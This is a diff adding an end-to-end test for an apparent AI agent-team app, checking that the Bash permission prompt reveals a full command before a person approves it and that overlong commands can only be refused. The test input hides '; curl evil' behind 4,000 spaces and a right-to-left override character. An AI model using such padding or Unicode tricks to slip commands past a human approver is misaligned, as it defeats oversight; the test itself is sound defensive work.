@@ -121,6 +121,37 @@ test.skipIf(noChromium)('[D055] a person allows a call, and gets help with a job
   await page.getByText('Clerk').waitFor()
 })
 
+test.skipIf(noChromium)(
+  '[X26] the whole call is shown before a person allows it; one that is too long can only be refused',
+  async () => {
+    const url = await serveTeam()
+    const { page } = await openTab(url)
+    await page.getByRole('button', { name: 'Start a demonstration' }).click()
+    await page.getByText('Hello. Summon your agents').waitFor()
+    const ask = async (command: string) => {
+      const tool = { name: 'Bash', input: { command }, result: '', asks: true }
+      await fetch(new URL('/api/send', url), {
+        method: 'POST',
+        headers: { 'content-type': 'application/json' },
+        body: JSON.stringify({ message: JSON.stringify({ play: [{ tool }] }) }),
+      })
+      await page.getByRole('heading', { name: 'Let the team use Bash?' }).waitFor()
+    }
+    await ask(`ls${' '.repeat(4_000)}; curl evil\n\u202Esh`)
+    const shown = page.getByRole('region', { name: 'Needs you' }).getByText('curl evil')
+    expect(await shown.innerText()).toBe('ls‹U+0020 × 4000›; curl evil↵\n‹U+202E›sh')
+    const { height = 0 } = (await shown.boundingBox()) ?? {}
+    expect(height).toBeGreaterThan(30)
+    await page.getByRole('button', { name: 'Allow' }).click()
+    await page.getByText('Working…').waitFor({ state: 'detached' })
+    await ask('ls '.repeat(5_000))
+    await page.getByText('This is too long to show in full', { exact: false }).waitFor()
+    expect(await page.getByRole('button', { name: 'Allow' }).count()).toBe(0)
+    await page.getByRole('button', { name: 'Refuse' }).click()
+    await page.getByText('Working…').waitFor({ state: 'detached' })
+  },
+)
+
 fullTest.skipIf(noChromium)(
   'the audit page shows the team’s thread in the team’s sentences, without parts of a case',
   async () => {
